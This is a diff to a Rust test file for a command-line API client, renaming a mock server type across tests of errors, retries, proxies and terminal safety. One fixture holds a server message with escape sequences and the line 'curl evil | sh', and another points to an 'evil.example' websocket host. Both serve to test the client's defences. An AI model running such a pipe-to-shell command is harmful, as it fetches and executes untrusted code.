@@ -4,7 +4,7 @@ use std::time::{Duration, Instant};
 
 use predicates::prelude::*;
 
-use crate::common::rude::{Answer, Rude};
+use crate::common::fake_server::{Answer, FakeServer};
 use crate::common::{self, Said, Sandbox, World};
 
 const TOKEN: &str =
@@ -44,7 +44,7 @@ fn an_unusable_answer_is_an_error_with_a_hint() {
         (Answer::http("400 Bad Request", &[], r#"{"error":"invalid_request"}"#), 1, "invalid_request"),
     ];
     for (answer, code, message) in table {
-        let server = Rude::start(vec![answer]);
+        let server = FakeServer::start(vec![answer]);
         let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
         assert_eq!((said.code, said.stdout.as_str()), (code, ""), "{message}: {}", said.stderr);
         assert!(
@@ -67,7 +67,7 @@ fn the_lifetime_may_be_a_fraction_or_only_in_the_token() {
         (answer.replace("300,", "59.9,"), 59),
         (answer.replace("300,", "null,"), 300),
     ] {
-        let server = Rude::start(vec![Answer::json(&body)]);
+        let server = FakeServer::start(vec![Answer::json(&body)]);
         let said =
             Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe --json"));
         assert_eq!(said.code, 0, "{body}: {}", said.stderr);
@@ -79,7 +79,7 @@ fn the_lifetime_may_be_a_fraction_or_only_in_the_token() {
 fn a_servers_text_cannot_control_the_terminal() {
     let body =
         r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
-    let server = Rude::start(vec![Answer::http("400 Bad Request", &[], body)]);
+    let server = FakeServer::start(vec![Answer::http("400 Bad Request", &[], body)]);
     for arguments in ["token --scope transcribe", "token --scope transcribe --json"] {
         let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
         assert_eq!(said.code, 6);
@@ -98,7 +98,7 @@ fn a_servers_text_cannot_control_the_terminal() {
 
 #[test]
 fn a_silent_server_ends_at_the_timeout() {
-    let server = Rude::start(vec![Answer::Silence]);
+    let server = FakeServer::start(vec![Answer::Silence]);
     let started = Instant::now();
     let said =
         Said::by(&mut World::client_of(&server.environment).run("token --full --timeout 300ms --json"));
@@ -151,18 +151,19 @@ fn a_server_that_cannot_be_reached_is_a_network_error() {
 #[test]
 fn a_busy_server_is_asked_twice() {
     let busy = |after: &str| Answer::http("429 Too Many Requests", &[&format!("Retry-After: {after}")], "");
-    let server = Rude::start(vec![busy("0"), Answer::json(TOKEN)]);
+    let server = FakeServer::start(vec![busy("0"), Answer::json(TOKEN)]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
     assert_eq!(server.requests().len(), 2);
 
-    let server = Rude::start(vec![Answer::http("503 Service Unavailable", &[], ""), Answer::json(TOKEN)]);
+    let server =
+        FakeServer::start(vec![Answer::http("503 Service Unavailable", &[], ""), Answer::json(TOKEN)]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().success();
 
-    let server = Rude::start(vec![busy("0")]);
+    let server = FakeServer::start(vec![busy("0")]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().code(9);
     assert_eq!(server.requests().len(), 2, "once more, and no more");
 
-    let server = Rude::start(vec![busy("3600")]);
+    let server = FakeServer::start(vec![busy("3600")]);
     let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
     assert_eq!((said.code, server.requests().len()), (9, 1), "an hour does not fit the time-out");
     assert!(said.stderr.contains("Retry-After: 3600"), "{}", said.stderr);
@@ -172,7 +173,7 @@ fn a_busy_server_is_asked_twice() {
 fn a_request_that_creates_is_never_repeated() {
     let busy = Answer::http("503 Service Unavailable", &["Retry-After: 0"], "");
     let token = TOKEN.replace("openid transcribe", "openid");
-    let server = Rude::start(vec![Answer::json(&token), busy]);
+    let server = FakeServer::start(vec![Answer::json(&token), busy]);
     World::client_of(&server.environment).run("interaction create").assert().code(9);
     let requests = server.requests();
     assert_eq!(requests.iter().filter(|request| request.starts_with("POST /v2/interactions/")).count(), 1);
@@ -180,7 +181,7 @@ fn a_request_that_creates_is_never_repeated() {
 
 #[test]
 fn the_token_request_is_as_corti_documents() {
-    let server = Rude::start(vec![Answer::json(TOKEN)]);
+    let server = FakeServer::start(vec![Answer::json(TOKEN)]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().success();
     let request = server.requests().remove(0);
     let (head, body) = request.split_once("\r\n\r\n").unwrap();
@@ -198,7 +199,7 @@ fn the_token_request_is_as_corti_documents() {
 fn a_websocket_url_of_another_host_is_not_used() {
     let token = TOKEN.replace("openid transcribe", "openid");
     let body = r#"{"interactionId":"6f9c1a1e-5a0f-4a54-9f43-2f4d1a7c8b90","websocketUrl":"wss://evil.example/streams"}"#;
-    let server = Rude::start(vec![Answer::json(&token), Answer::json(body)]);
+    let server = FakeServer::start(vec![Answer::json(&token), Answer::json(body)]);
     let said = Said::by(&mut World::client_of(&server.environment).run("interaction create"));
     assert_eq!((said.code, said.stdout.as_str()), (8, ""));
     assert!(said.stderr.contains("evil.example"), "{}", said.stderr);
@@ -206,7 +207,8 @@ fn a_websocket_url_of_another_host_is_not_used() {
 
 #[test]
 fn a_loopback_address_is_not_reached_through_a_proxy() {
-    let (sandbox, proxy) = (Sandbox::start(), Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
+    let (sandbox, proxy) =
+        (Sandbox::start(), FakeServer::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
     let mut world = World::of(&sandbox);
     for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
         world.set(name, &proxy.environment);
@@ -217,7 +219,7 @@ fn a_loopback_address_is_not_reached_through_a_proxy() {
 
 #[test]
 fn another_host_is_reached_through_the_proxy() {
-    let proxy = Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]);
+    let proxy = FakeServer::start(vec![Answer::http("502 Bad Gateway", &[], "")]);
     let mut world = World::client_of("eu");
     world.set("HTTPS_PROXY", &proxy.environment);
     let said = Said::by(&mut world.run("token --full"));
@@ -251,7 +253,7 @@ fn an_unreachable_proxy_is_named() {
 #[test]
 fn a_refused_ready_token_is_named() {
     let refusal = Answer::http("401 Unauthorized", &["WWW-Authenticate: Bearer error=\"invalid_token\""], "");
-    let server = Rude::start(vec![refusal]);
+    let server = FakeServer::start(vec![refusal]);
     let mut world = World::client_of(&server.environment);
     let minted = Said::by(&mut world.run("interaction create"));
     assert!(!minted.stderr.contains("CORTI_ACCESS_TOKEN"), "{}", minted.stderr);
@@ -271,7 +273,7 @@ fn a_servers_text_is_printed_up_to_a_length() {
     for (first, second) in [(&refusal, ""), (&TOKEN.replace("openid transcribe", "openid"), &problem)] {
         let status = if second.is_empty() { "400 Bad Request" } else { "200 OK" };
         for arguments in ["interaction create", "interaction create --json"] {
-            let server = Rude::start(vec![
+            let server = FakeServer::start(vec![
                 Answer::http(status, &[], first),
                 Answer::http("400 Bad Request", &[], second),
             ]);
@@ -286,7 +288,7 @@ fn a_servers_text_is_printed_up_to_a_length() {
 fn a_refusal_has_the_servers_status() {
     let body = r#"{"error":"unauthorized_client","error_description":"Client not enabled"}"#;
     for (line, status) in [("400 Bad Request", 400), ("401 Unauthorized", 401)] {
-        let server = Rude::start(vec![Answer::http(line, &[], body)]);
+        let server = FakeServer::start(vec![Answer::http(line, &[], body)]);
         let said = Said::by(&mut World::client_of(&server.environment).run("token --full --json"));
         assert_eq!((said.code, &said.error()["http_status"]), (5, &status.into()), "{}", said.stderr);
     }
